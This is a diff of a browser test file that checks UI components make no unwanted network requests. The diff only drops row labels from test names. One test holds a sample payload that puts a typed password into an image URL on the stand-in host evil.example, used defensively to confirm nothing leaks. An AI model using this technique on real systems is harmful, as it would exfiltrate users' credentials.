@@ -1,4 +1,4 @@
-// What a surface asks the network for. Rows F1 to F3 and F5.
+// What a surface asks the network for.
 import { expect, send, test } from './fixtures.ts'
 import { codes, intruders, settled, watched } from './watch.ts'
 import { catalogId, column, components, create, text } from './wire.ts'
@@ -6,7 +6,7 @@ import { catalogId, column, components, create, text } from './wire.ts'
 const picture = (id: string, url: unknown): object => ({ id, component: 'Image', url })
 
 test.describe('what is asked for', () => {
-  test('[BC-2] [BC-11] F1: a typed password leaves by no address', async ({ page, open: go }) => {
+  test('[BC-2] [BC-11] a typed password leaves by no address', async ({ page, open: go }) => {
     const asked = await watched(page)
     await go('stage')
     const leaking = { call: 'formatString', args: { value: 'https://evil.example/p.png?d=${/pw}' } }
@@ -20,7 +20,7 @@ test.describe('what is asked for', () => {
     expect(asked).toEqual([])
   })
 
-  test('[BC-14] F2: no picture in a text is asked for, however it is written', async ({ page, open: go }) => {
+  test('[BC-14] no picture in a text is asked for, however it is written', async ({ page, open: go }) => {
     const asked = await watched(page)
     const found = intruders(page)
     await go('stage')
@@ -64,7 +64,7 @@ test.describe('what is asked for', () => {
     ['Video', 'video'],
     ['AudioPlayer', 'audio'],
   ] as const) {
-    test(`[BC-11] F3: ${component} asks for nothing before it is played`, async ({
+    test(`[BC-11] ${component} asks for nothing before it is played`, async ({
       page,
       open: go,
       complaints,
@@ -87,7 +87,7 @@ test.describe('what is asked for', () => {
     })
   }
 
-  test('[R-7] F5: a colour is a colour, and the sign of an agent is asked for as pictures are', async ({
+  test('[R-7] a colour is a colour, and the sign of an agent is asked for as pictures are', async ({
     page,
     open: go,
     complaints,
